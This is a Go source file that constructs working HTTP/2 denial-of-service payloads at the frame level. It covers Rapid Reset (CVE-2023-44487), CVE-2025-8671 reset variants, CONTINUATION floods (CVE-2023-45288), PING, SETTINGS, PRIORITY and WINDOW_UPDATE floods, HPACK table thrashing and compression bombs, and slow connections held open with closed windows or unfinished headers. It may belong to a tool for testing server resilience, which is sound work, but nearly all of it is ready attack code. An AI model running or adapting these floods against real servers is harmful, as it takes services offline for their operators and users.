package attack

import (
	"encoding/binary"
	"strings"
	"time"
)

// A part2 is one way to attack over HTTP/2. A connection sends first, and then what next makes, a
// piece each time. It comes again when the server has ended it.
type part2 struct {
	kind  Kind
	first string
	next  func(round uint32) string
	each  time.Duration
}

// RFC 7541: fields by the static table, and literals that go to no table.
const (
	rest   = "\x86\x01\x01h" // http, for h
	get    = "\x82\x84" + rest
	large  = "\x82\x04\x06" + Large + rest
	upload = "\x83\x04\x07" + Upload + rest
)

// What is in frames of RFC 9113.
const (
	typeData, typeHeaders, typePriority, typeReset, typeSettings, typePing = 0, 1, 2, 3, 4, 6
	typeWindow, typeContinuation, typePriorityUpdate                       = 8, 9, 16

	flagEnd, flagHeadersEnd = 1, 4
)

// frame is one of HTTP/2 (RFC 9113 section 4.1).
func frame(kind, flags byte, stream uint32, payload string) string {
	n := len(payload)
	head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}
	return string(binary.BigEndian.AppendUint32(head, stream)) + payload
}

func number(n uint32) string { return string(binary.BigEndian.AppendUint32(nil, n)) }

// preface begins a connection, with settings, and acknowledges the server's.
func preface(settings string) string {
	return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(typeSettings, 0, 0, settings) + frame(typeSettings, 1, 0, "")
}

// id is the stream of a round.
func id(round uint32) uint32 { return 2*round + 1 }

// request opens a round's stream, and ends its side.
func request2(round uint32, block string) string {
	return frame(typeHeaders, flagEnd|flagHeadersEnd, id(round), block)
}

// open opens a round's stream, whose body is to follow.
func open(round uint32) string { return frame(typeHeaders, flagHeadersEnd, id(round), upload) }

// ping shows whether the server is there, and has come so far.
const pinged = "attacked"

var ping = frame(typePing, 0, 0, pinged)

// flood repeats at once, more often than servers put up with, and then says PING.
func flood(kind Kind, times uint32, each func(round uint32) string) part2 {
	var all strings.Builder
	all.WriteString(preface(""))
	for i := range times {
		all.WriteString(each(i))
	}
	return part2{kind: kind, first: all.String(), next: func(uint32) string { return ping },
		each: 100 * time.Millisecond}
}

// opened is flood with a stream for each round.
func opened(kind Kind, then func(stream uint32) string) part2 {
	return flood(kind, 2000, func(round uint32) string { return open(round) + then(id(round)) })
}

// behind is flood with a frame first.
func behind(kind Kind, times uint32, first, each string) part2 {
	return flood(kind, times, func(round uint32) string {
		if round == 0 {
			return first
		}
		return each
	})
}

// floods are CVE-2023-44487, CVE-2025-8671, CVE-2023-45288 and those of CVE-2019-9511 to 9518 that
// repeat. A server may end them.
var floods = []part2{
	opened(RapidReset, func(s uint32) string { return frame(typeReset, 0, s, number(8)) }),
	opened(MadeResetZero, func(s uint32) string { return frame(typeWindow, 0, s, number(0)) }),
	opened(MadeResetOverflow, func(s uint32) string { return frame(typeWindow, 0, s, number(1<<31-1)) }),
	opened(MadeResetLength, func(s uint32) string { return frame(typePriority, 0, s, "1234") }),
	opened(MadeResetSelf, func(s uint32) string { return frame(typePriority, 0, s, number(s)+"\x10") }),
	opened(MadeResetData, func(s uint32) string {
		return frame(typeData, flagEnd, s, "") + frame(typeData, 0, s, "x")
	}),
	opened(MadeResetHeaders, func(s uint32) string {
		return frame(typeData, flagEnd, s, "") + frame(typeHeaders, flagEnd|flagHeadersEnd, s, upload)
	}),
	opened(Refused, func(uint32) string { return "" }),
	behind(Continuations, 20_000, frame(typeHeaders, 0, 1, get), frame(typeContinuation, 0, 1, "")),
	behind(LongBlocks, 300, frame(typeHeaders, 0, 1, get), frame(typeContinuation, 0, 1, strings.Repeat("\x82",
		16<<10))),
	flood(Pings, 20_000, func(uint32) string { return ping }),
	flood(Settings, 2000, func(uint32) string { return frame(typeSettings, 0, 0, "") }),
	behind(EmptyData, 2000, open(0), frame(typeData, 0, 1, "")),
	flood(Priorities, 20_000, func(i uint32) string { return frame(typePriority, 0, id(i), number(0)+"\x10") }),
	flood(PriorityUpdates, 20_000, func(i uint32) string {
		return frame(typePriorityUpdate, 0, 0, number(id(i))+"u=1")
	}),
	flood(Windows, 20_000, func(uint32) string { return frame(typeWindow, 0, 0, number(1)) }),
	behind(Names, 100, frame(typeHeaders, flagEnd|flagHeadersEnd, 1, get+longName),
		frame(typeHeaders, flagEnd|flagHeadersEnd, 3, get+strings.Repeat("\x00\x7e", 8000)+"\x00")),
}

// kilobyte and longName are fields of 1,000 and 4,000 bytes that go to the table. Each table entry
// of Names takes its name from the one before.
var (
	kilobyte = "\x40\x01k\x7f\xe9\x06" + strings.Repeat("v", 1000)
	longName = "\x40\x7f\xa1\x1e" + strings.Repeat("n", 4000) + "\x00"
)

// rounds is a part that has so many streams in each of its pieces.
func rounds(kind Kind, first string, n uint32, each time.Duration, stream func(round uint32) string) part2 {
	return part2{kind: kind, first: preface("") + first, each: each, next: func(round uint32) string {
		var all strings.Builder
		for i := range n {
			all.WriteString(stream(n*round + i))
		}
		return all.String()
	}}
}

// costly are requests that a server has to answer, however much they cost it: fields that fill the
// table anew each time, and blocks of 8 kB that are 8 MB of fields.
var costly = []part2{
	rounds(Thrash, "", 100, 100*time.Millisecond, func(round uint32) string {
		return request2(round, "\x20\x3f\xe1\x1f"+get+strings.Repeat(kilobyte, 4))
	}),
	rounds(Bomb, "", 20, 100*time.Millisecond, func(round uint32) string {
		if round == 0 {
			return request2(0, get+kilobyte)
		}
		return request2(round, get+strings.Repeat("\xbe", 8000))
	}),
}

// holding is n of something, with which a connection stays.
func holding(kind Kind, settings string, n uint32, each func(round uint32) string, then string) part2 {
	all := preface(settings)
	for i := range n {
		all += each(i)
	}
	return part2{kind: kind, first: all, next: func(uint32) string { return then }, each: time.Second}
}

// closed is SETTINGS_INITIAL_WINDOW_SIZE 0.
const closed = "\x00\x04\x00\x00\x00\x00"

// held are connections that stay: with streams that are never finished, long answers behind windows
// that are closed or open by a byte a second, and a head that never ends.
var held = []part2{
	holding(Unfinished, "", 100, open, ping),
	holding(ClosedWindows, closed, 100, func(i uint32) string { return request2(i, large) }, ping),
	holding(ByteWindows, closed, 100, func(i uint32) string { return request2(i, large) },
		frame(typeWindow, 0, 1, number(1))),
	holding(SlowHeads, "", 1, func(uint32) string { return frame(typeHeaders, 0, 1, get) },
		frame(typeContinuation, 0, 1, "")),
}
